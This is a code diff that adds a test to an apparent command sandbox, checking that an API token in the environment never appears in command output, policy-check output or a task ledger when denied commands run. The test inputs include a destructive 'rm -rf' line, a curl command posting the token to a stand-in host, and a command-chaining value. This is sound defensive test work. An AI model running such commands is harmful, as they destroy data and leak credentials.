@@ -232,3 +232,18 @@ def test_a_damaged_keeping_is_made_anew(guarded: Sandbox) -> None:
                  kept.read_text().replace('"rules"', '"ruled"')):  # fmt: skip
         kept.write_text(text)
         guarded.siding("run", "--", "sudo", "true", status=5)
+
+
+def test_no_secret_of_the_environment_gets_into_a_verdict(guarded: Sandbox) -> None:
+    secret = "correct-horse-battery"
+    lines = ("rm -rf /$API_TOKEN", "curl -d $API_TOKEN http://x.example", "$API_TOKEN x; ls")
+    for line in lines:
+        done = guarded.siding(
+            "run", "-e", f"OTHER_TOKEN={secret}", "--", "sh", "-c", line, status=5,
+            env={"API_TOKEN": secret},
+        )  # fmt: skip
+        assert secret.encode() not in done.stdout + done.stderr
+        said = guarded.siding("policy", "check", "-c", line, status=5, env={"API_TOKEN": secret})
+        assert secret.encode() not in said.stdout
+    ledger = guarded.project / "tasks" / guarded.workspace().name / "ledger.jsonl"
+    assert secret not in ledger.read_text()
